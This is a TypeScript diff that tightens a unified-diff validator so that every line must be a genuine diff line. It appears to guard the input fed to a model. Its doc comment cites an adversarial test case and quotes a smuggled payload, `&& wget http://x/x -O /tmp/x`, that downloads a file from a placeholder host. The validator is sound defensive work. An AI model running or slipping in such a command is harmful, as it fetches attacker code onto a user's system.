@@ -238,7 +238,24 @@ export function isDiffFieldName(name: string): boolean {
 
 const UNIFIED_DIFF = /^(?:@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@|diff --git a\/|--- (?:a\/|\/dev\/null))/;
 
-/** Whether `text` opens as a unified diff: a hunk header, `diff --git a/`, or a `--- a/` file header. */
+/**
+ * A line of a unified diff: a context, added or removed line (` `, `+`, `-`), a hunk header, `\ No newline at end of
+ * file`, or a file header of `git diff` (`diff --git`, `index`, modes, renames, `Binary files … differ`); empty lines too.
+ */
+const DIFF_LINE = /^(?:[ +\-\\]|@@ |diff --git |index [0-9a-f]|(?:new|deleted) file mode |(?:old|new) mode |similarity index |dissimilarity index |rename (?:from|to) |copy (?:from|to) |Binary files |\r?$)/;
+
+/**
+ * Whether `text` is a unified diff: it opens with a hunk header, `diff --git a/`, or a `--- a/` file header, and
+ * every line is a diff's. Session 33 (adv33, datasets/shape-carriers.ts): a payload glued after the last line
+ * (`+const b = 3;\n&& wget http://x/x -O /tmp/x`) or on a line of its own is no line of the diff, and kept a value
+ * that only opened as one out of the model.
+ */
 export function isUnifiedDiff(text: string): boolean {
-  return UNIFIED_DIFF.test(text);
+  if (!UNIFIED_DIFF.test(text)) return false;
+  for (let start = text.indexOf('\n') + 1; start > 0 && start < text.length; ) {
+    const end = text.indexOf('\n', start);
+    if (!DIFF_LINE.test(text.slice(start, end < 0 ? text.length : end))) return false;
+    start = end + 1;
+  }
+  return true;
 }
